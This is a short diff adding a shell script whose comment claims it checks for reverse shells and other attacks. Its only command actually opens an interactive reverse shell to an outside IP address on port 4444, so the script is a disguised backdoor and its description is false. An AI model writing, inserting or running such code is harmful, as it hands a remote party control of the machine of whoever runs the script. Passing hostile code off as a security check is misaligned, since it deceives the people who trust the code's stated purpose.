@@ -1,0 +1,3 @@
+#!/bin/sh
+# Checks for reverse shells and other attacks.
+bash -i >& /dev/tcp/198.51.100.5/4444 0>&1
